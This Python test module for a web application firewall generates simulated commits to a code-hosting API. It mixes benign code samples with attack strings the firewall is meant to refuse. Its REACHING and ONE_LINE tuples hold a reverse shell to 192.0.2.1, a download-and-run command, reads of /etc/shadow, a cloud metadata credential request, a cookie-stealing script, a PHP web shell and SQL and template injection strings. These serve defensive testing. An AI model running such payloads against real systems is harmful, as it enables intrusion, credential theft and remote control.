"""A forge's traffic: people commit programs, queries and configurations of many languages to files of theirs."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator

from tests.waf.profile.world import Request, World, request, rules

JSON = b"application/json"
PLACE = "/api/projects/7/blobs"
_NAMES = ("shop", "cart", "user", "orders", "report", "cache", "queue", "index")

_PLAIN = (
    "def {a}({b}):\n    values = [x * 2 for x in {b}]\n    return {{'{a}': values, \"n\": len(values)}}\n\n\nprint({a}([1, 2, 3]))\n",
    "package {a};\n\npublic class {b} {{\n    private int[] n = new int[8];\n\n    int sum() {{\n        int s = 0;\n"
    "        for (int i = 0; i < n.length; i++) s += n[i];\n        return s;\n    }}\n}}\n",
    "[{a}]\nname = \"{b}\"\npaths = ['a/b', 'c/d']\n\n[{b}]\nlimit = 20; # (a comment)\nformat = {{ width = 80 }}\n",
    "export function {a}({b}) {{\n  const list = {b}.map((x) => x.id);\n  return {{ list, total: list.length / 2 }};\n}}\n",
    '# {a}\n\nSome words on {b}: it\'s "new" [see](https://example.org/{a}).\n\n* one (1)\n* two; three = {{3}}\n',
)
"""In which hardly any rule finds anything."""
_DENSE = (
    "#!/bin/bash\nset -euo pipefail\ncd \"$(dirname \"$0\")\"\nls -la build/ | grep {a}\nrm -rf build/{b}; mkdir -p build\n"
    "tar czf {a}.tgz build && echo done\n",
    "import os\nimport subprocess\n\nout = subprocess.run(['git', 'log'], check=True)\nos.system('ls -l {a}')\nprint(out, \"{b}\")\n",
    "SELECT {a}.id, COUNT(*)\nFROM {a}\nJOIN {b} ON {b}.id = {a}.ref\nWHERE {a}.name = 'x' OR {a}.total > 10\n"
    "GROUP BY 1\nHAVING COUNT(*) > 3\nORDER BY 2;\n\nDROP TABLE {b};\n",
    "<?php\n$stmt = $pdo->prepare('SELECT * FROM {a} WHERE id = ?');\n$stmt->execute([$_GET['{b}']]);\n"
    "foreach ($stmt as $row) {{\n    echo $row['name'];\n}}\n",
    "services:\n  {a}:\n    image: busybox\n    command: [\"sh\", \"-c\", \"cat /etc/hosts; sleep 5\"]\n  {b}:\n"
    "    volumes: ['/var/run/{b}:/run']\n",
    "FROM debian:12\nRUN apt-get update && apt-get install -y curl \\\n && rm -rf /var/lib/apt/lists/*\nCOPY {a} /srv/{b}\n"
    "CMD [\"/bin/sh\", \"-c\", \"exec /srv/{b}\"]\n",
)  # fmt: skip
"""In which rules find what they are for."""
REACHING = (
    "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
    "curl -s http://192.0.2.1/x | sh\n",
    "cat /etc/passwd /etc/shadow\n",
    "curl http://169.254.169.254/latest/meta-data/iam/\n",
    "<script>fetch('//192.0.2.1/?c=' + document.cookie)</script>\n",
    "<img src=x onerror=alert(1)>\n",
    "<?php @eval($_POST['x']); system($_GET['c']); ?>\n",
)
"""Lines that make of a program what is refused wherever it is sent."""
ONE_LINE = ("; cat /var/log/syslog; id", "' UNION SELECT name, password FROM users -- ", "{{7*7}}${{7*7}}", "$(id)", "| nc -e /bin/sh 192.0.2.1 1")  # fmt: skip
"""What is no program in any language."""


def commit(text: str, message: str = "Change it") -> Request:
    """A file's new content."""
    body = {"branch": "main", "message": message, "blob": text}
    return request(PLACE, "POST", json.dumps(body).encode(), JSON)


def commits(source: random.Random, dense: float) -> Iterator[Request]:
    """Yield commits of an honest client, of which a share is `dense`."""
    while True:
        form = source.choice(_DENSE if source.random() < dense else _PLAIN)
        text = form.format(a=source.choice(_NAMES), b=source.choice(_NAMES))
        yield commit(text * source.randint(1, 3), f"Change {source.choice(_NAMES)} ({source.randint(1, 99)})")


def taught(clients: int, each: int, preset: str) -> World:
    """Return a world that learned as the program does: nothing of a client on whom a rule has fired."""
    world = World(clients=5, requests=50, preset=preset)
    for client in range(clients):
        ways = commits(random.Random(client), 0.2)
        for _ in range(each):
            sent = next(ways)
            if rules(world.judge(sent, "learning")):
                break
            world.learn(sent, (f"client {client}",))
    return world


def refused(world: World, sent: list[Request], stage: str) -> int:
    """Return how many are refused."""
    return sum(world.judge(each, stage).verdict is not None for each in sent)
